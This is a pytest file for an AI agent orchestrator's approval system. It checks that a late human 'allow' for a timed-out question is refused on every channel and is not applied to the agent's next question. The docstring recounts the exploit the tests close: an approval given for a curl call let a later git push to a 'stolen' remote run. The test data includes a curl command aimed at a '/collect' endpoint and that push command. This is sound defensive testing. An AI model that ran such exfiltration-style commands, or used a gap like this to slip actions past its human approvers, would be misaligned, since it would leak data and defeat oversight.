"""An answer is bound to its question (issue 73): each question an agent asks has a short id, its
task's count (``Q2``), shown in ``status``, its notification, its link's page and the forms people
are told to type; ``answer`` takes it on every door. A bare ``answer T-01 allow`` answers only the
one question the task asks, and not when the question before it closed with nobody's word. A
question that timed out is closed: a late word for it is refused in one line that names the
question asked now, and answers nothing.

The issue's exploit, with the real claude CLI against the fake Messages API: question 1
(``Bash(curl …)``) times out; ``answer T-01 allow --reason "curl is fine"`` then allowed question 2,
``Bash(git push … HEAD:refs/heads/stolen)``, which ran. Here the late word is refused, the second
question stays asked until a person names it, and nothing is pushed.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from fakeapi import FakeAnthropic, Reply
from test_asks import CLAUDE, _asked, _comment, _plan, answered, approvals_lines, needs_claude, started
from test_claude_backend import environment, result, write_plan
from test_hostile_input import snapshot

CLI = [sys.executable, "-m", "orchestrator"]
CURL = "curl -sS http://127.0.0.1:9/collect"
PUSH = "git push ../stolen.git HEAD:refs/heads/stolen"


def _remote(tmp_path: Path) -> Path:
    """The project a git repository with a commit, and a bare repository beside it a push would reach."""
    commit = ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "x"]
    for args in (["init", "-q"], commit):
        subprocess.run(["git", *args], cwd=tmp_path, check=True, capture_output=True)
    remote = tmp_path.parent / "stolen.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True, capture_output=True)
    return remote


@pytest.mark.claude
@needs_claude
def test_a_late_word_for_a_question_that_timed_out_allows_nothing(tmp_path: Path) -> None:
    assert CLAUDE is not None
    _plan(tmp_path, "15s", tmp_path / "notified.jsonl")
    remote = _remote(tmp_path)
    script = [Reply.tool("Bash", {"command": CURL}), Reply.tool("Bash", {"command": PUSH}), Reply.say("done")]
    with FakeAnthropic(script) as api:
        env = environment(api, tmp_path)
        runner = started(tmp_path, env)
        _asked(tmp_path, 2)  # (Q1 timed out, denied; the agent asks Q2)
        lines = approvals_lines(tmp_path)
        late = answered(tmp_path, env, "T-01", "allow", "--reason", "curl is fine")  # (the exact word)
        assert late.returncode == 1 and late.stderr.count("\n") == 1, late.stderr  # (before: 0, and Q2 ran)
        assert [(d["decision"], d.get("number"), d.get("by")) for d in lines] == [
            ("asked", 1, None), ("denied", None, "timeout"), ("asked", 2, None),
        ], lines  # fmt: skip
        assert late.stderr.startswith(f"allow T-01: T-01's Q1, Bash({CURL}), closed with nobody's word (denied: no ")
        assert f"it asks Q2 now: Bash({PUSH}) — a word for Q2 names it: `orchestrator answer T-01 Q2 allow`" in (
            late.stderr
        )
        named = answered(tmp_path, env, "T-01", "Q1", "allow", "--reason", "curl is fine")
        assert named.returncode == 1, named.stderr
        assert named.stderr == (
            f"allow T-01 Q1: T-01's Q1, Bash({CURL}), is closed: denied: no answer within 15.0s — it asks Q2 now: "
            f"Bash({PUSH}): `orchestrator answer T-01 Q2 allow`\n"
        )
        status = json.loads(subprocess.run([*CLI, "status", str(tmp_path / ".orchestrator"), "--json"], env=env,
                                           capture_output=True, text=True, check=True).stdout)  # fmt: skip
        assert [(q["id"], q["said"]) for q in status["asks"]] == [("Q2", f"Bash({PUSH})")]
        assert approvals_lines(tmp_path) == lines  # (refused: nothing written)
        denied = answered(tmp_path, env, "T-01", "Q2", "deny")
        assert denied.returncode == 0 and denied.stdout.startswith(f"👎 denied T-01's Q2, Bash({PUSH})"), denied
        out, _ = runner.communicate(timeout=150)
    assert "✋ T-01 [Agent-01] asks Q1: Bash(curl" in out and "✋ T-01 [Agent-01] asks Q2: Bash(git push" in out, out
    shown = subprocess.run(["git", "for-each-ref"], cwd=remote, capture_output=True, text=True, check=True)
    assert "stolen" not in shown.stdout  # (nothing pushed)
    meta, _ = result(tmp_path, "agent-01")
    asked = [(a["id"], a["answer"], a["by"]) for a in meta["asked"]]
    assert asked == [("Q1", "deny", "timeout"), ("Q2", "deny", "ann")], meta
    assert not [d for d in approvals_lines(tmp_path) if d["decision"] == "allowed"]


# --- every door -----------------------------------------------------------------------------------


def _two_questions(tmp_path: Path) -> tuple[Path, Any, Any]:
    """A workspace whose T-01 asked Q1 (closed at its ``until``, no one's word) and asks Q2 now,
    as a dead or slow asker leaves it; no agent needed."""
    from orchestrator.moments import iso_at
    from orchestrator.state.words import questions
    from orchestrator.state.workspace import Workspace

    settings = 'ask: true\npublic_url: https://asks.example.test\napprovals: {"github": {"repository": "acme/app"}}\n'
    workspace = Workspace(write_plan(tmp_path, [("T-01", "Fetch the data", "None")], settings=settings))
    first = questions.ask(workspace, "T-01", 1, "Bash", f"Bash({CURL})", until=iso_at(time.time() - 1), inputs=None)
    second = questions.ask(workspace, "T-01", 1, "Bash", f"Bash({PUSH})", until=iso_at(time.time() + 300), inputs=None)
    return workspace.root, first, second


def test_every_door_refuses_a_word_for_a_closed_question_and_binds_one_that_names_its_question(
    tmp_path: Path,
) -> None:
    """The CLI, the API (``/api/commands/answer``), MCP, the dashboard's button, a link made for Q1,
    and a GitHub comment: a late word for Q1, and a bare word while Q1 closed unanswered, are
    refused in one line naming Q2, with nothing written; a word naming Q2 answers Q2, once."""
    from dashboard_helpers import http_get, served
    from test_hooks import SECRET, signed
    from test_mcp import mcp_client, text_of

    from orchestrator.state.words import links
    from orchestrator.state.workspace import Workspace

    root, first, _ = _two_questions(tmp_path)
    workspace = Workspace(root)
    link = links.pair(workspace, "T-01", first.question, 600, question=True)["allow"]
    (tmp_path / "secret").write_bytes(SECRET + b"\n")
    closed = f"T-01's Q1, Bash({CURL}), is closed: denied: no answer in time — it asks Q2 now: Bash({PUSH})"
    bare = f"T-01's Q1, Bash({CURL}), closed with nobody's word (denied: no answer in time), and it asks Q2 now"
    before = _written(root)
    said = subprocess.run([*CLI, "answer", str(root), "T-01", "Q1", "allow"], capture_output=True, text=True)
    assert said.returncode == 1 and said.stderr.startswith(f"allow T-01 Q1: {closed}"), said.stderr
    said = subprocess.run([*CLI, "answer", str(root), "T-01", "allow", "--question", "q1"], capture_output=True,
                          text=True)  # fmt: skip
    assert said.returncode == 1 and said.stderr.startswith(f"allow T-01 Q1: {closed}"), said.stderr
    said = subprocess.run([*CLI, "answer", str(root), "T-01", "allow"], capture_output=True, text=True)
    assert said.returncode == 1 and said.stderr.startswith(f"allow T-01: {bare}"), said.stderr
    with mcp_client(tmp_path) as client:
        for arguments, words in (({"question": "Q1"}, closed), ({}, bare)):
            refused = client.call("answer", {"directory": str(root), "task": "T-01", "answer": "allow", **arguments})
            assert refused.is_error and words in text_of(refused), text_of(refused)
        wrong = client.call("answer", {"directory": str(root), "task": "T-01", "answer": "allow", "question": "x"})
        assert wrong.is_error and "'x' is not a question's id: use Q1, Q2" in text_of(wrong), text_of(wrong)
    with served(tmp_path, "--webhook-secret-file", str(tmp_path / "secret")) as server:
        token = {"X-Orchestrator-Token": server.token, "Content-Type": "application/json"}
        for path, body in (
            ("/api/commands/answer", {"task": "T-01", "answer": "allow", "question": "Q1"}),
            ("/api/commands/answer", {"task": "T-01", "answer": "allow"}),
            ("/api/task/T-01/allow", {"question": "Q1"}),
            ("/api/task/T-01/allow", {}),
        ):
            refused = http_get(server.port, path, token, method="POST", body=json.dumps(body).encode())
            said = refused.json()
            assert refused.status == 409, (path, body, said)
            assert (closed if "question" in body else bare) in (said.get("message") or said.get("error")), said
        wrong = http_get(server.port, "/api/task/T-01/allow", token, method="POST", body=b'{"question": "x"}')
        assert wrong.status == 400 and "'x' is not a question's id" in wrong.body.decode(), wrong.body
        page = http_get(server.port, f"/links/{link}", {"Accept": "application/json"})
        assert page.status == 409 and page.json()["error"].startswith(closed), page.body
        assert http_get(server.port, f"/links/{link}", method="POST", body=b"").status == 409
        for number, text in enumerate(("/allow T-01 Q1", "/allow T-01", "/approve T-01 q1 always"), start=1):
            sent = json.dumps(_comment(text)).encode()
            headers = {"X-GitHub-Event": "issue_comment", "X-GitHub-Delivery": f"c-{number}",
                       "X-Hub-Signature-256": signed(sent), "Content-Type": "application/json"}  # fmt: skip
            refused = http_get(server.port, "/hooks/github", headers, method="POST", body=sent)
            assert refused.status == 409, (text, refused.body)
            assert (bare if text == "/allow T-01" else closed) in refused.json()["error"], refused.body
            assert refused.json()["error"].endswith("`/allow T-01 Q2`"), refused.body  # (what to comment)
        assert _written(root) == before  # (every refusal: nothing written)
        taken = http_get(server.port, "/api/task/T-01/allow", token, method="POST", body=b'{"question": "Q2"}')
        assert taken.status == 200 and taken.json()["said"].startswith(f"👍 allowed T-01's Q2, Bash({PUSH})")
        again = http_get(server.port, "/api/commands/answer", token, method="POST",
                         body=b'{"task": "T-01", "answer": "deny", "question": "Q2"}')  # fmt: skip
        assert again.status == 409 and "T-01's Q2, " in again.json()["message"], again.body
    assert [(d["decision"], d.get("by")) for d in approvals_lines(tmp_path)][-1][0] == "allowed"


def _written(root: Path) -> dict[str, Any]:
    """Every file under ``root`` with its bytes and mtime, but the empty files ``flock`` takes its
    locks on (a comment's delivery is looked up under one: it holds nothing)."""
    return {path: kept for path, kept in snapshot(root).items() if kept[0] == "file" and not path.endswith(".lock")}


def test_a_bare_word_answers_the_one_question_asked_and_not_one_of_several(tmp_path: Path) -> None:
    """Two questions asked at once (parallel tool calls): a bare word is refused naming both;
    with one asked and the one before it answered by a person, a bare word answers it."""
    from orchestrator.moments import iso_at
    from orchestrator.state.words import questions
    from orchestrator.state.workspace import Workspace

    workspace = Workspace(write_plan(tmp_path, [("T-01", "x", "None")], settings="ask: true\n"))
    later = iso_at(time.time() + 300)
    first = questions.ask(workspace, "T-01", 1, "Bash", "Bash(ls)", until=later, inputs=None)
    questions.ask(workspace, "T-01", 1, "Bash", "Bash(pwd)", until=later, inputs=None)
    said = subprocess.run([*CLI, "answer", str(workspace.root), "T-01", "allow"], capture_output=True, text=True)
    assert said.returncode == 1 and said.stderr == (
        "allow T-01: T-01 asks 2 questions (Q1, Bash(ls); Q2, Bash(pwd)) — name the one you answer: "
        "`orchestrator answer T-01 Q1 allow`\n"
    ), said.stderr
    questions.reply(workspace, first, True, by="ann")
    said = subprocess.run([*CLI, "answer", str(workspace.root), "T-01", "deny", "--json"], capture_output=True,
                          text=True)  # fmt: skip
    assert said.returncode == 0, said.stderr
    assert json.loads(said.stdout)["said"].startswith("👎 denied T-01's Q2, Bash(pwd)")
    numbers = [line.get("number") for line in approvals_lines(tmp_path) if line["decision"] == "asked"]
    assert numbers == [1, 2]
